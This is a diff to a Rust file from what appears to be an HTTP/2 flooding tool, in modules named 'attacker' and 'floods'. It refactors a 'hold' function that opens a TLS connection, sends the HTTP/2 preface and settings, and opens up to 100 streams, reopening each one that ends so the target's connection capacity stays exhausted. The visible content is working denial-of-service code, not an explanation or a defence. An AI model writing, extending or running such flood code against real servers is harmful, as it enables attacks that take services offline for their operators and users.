@@ -11,7 +11,7 @@ use tokio::io::{AsyncRead, AsyncReadExt, AsyncWriteExt, split};
 use tokio::time::Instant;
 
 use super::attacker::Attack;
-use super::{floods, wire};
+use super::floods;
 
 const STREAMS: u32 = 100;
 const DATA: u8 = 0;
@@ -23,13 +23,8 @@ const ACK: u8 = 1;
 
 /// One connection with as many streams as it may have, and another one for each that is ended.
 pub async fn hold(attack: &Attack, from: Ipv4Addr, tls: &Arc<ClientConfig>) -> io::Result<()> {
-    let stream = wire::tls(wire::tcp(from, attack.port, None).await?, tls).await?;
-    if stream.get_ref().1.alpn_protocol() != Some(b"h2") {
-        return Err(io::ErrorKind::Unsupported.into());
-    }
-    attack.count(&attack.opened);
+    let (mut read, mut write) = split(floods::h2(attack, from, tls).await?);
     let began = Instant::now();
-    let (mut read, mut write) = split(stream);
     write.write_all(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n").await?;
     write.write_all(&floods::frame(SETTINGS, 0, 0, &[])).await?;
     let first: Vec<u8> = (0..STREAMS).flat_map(open).collect();
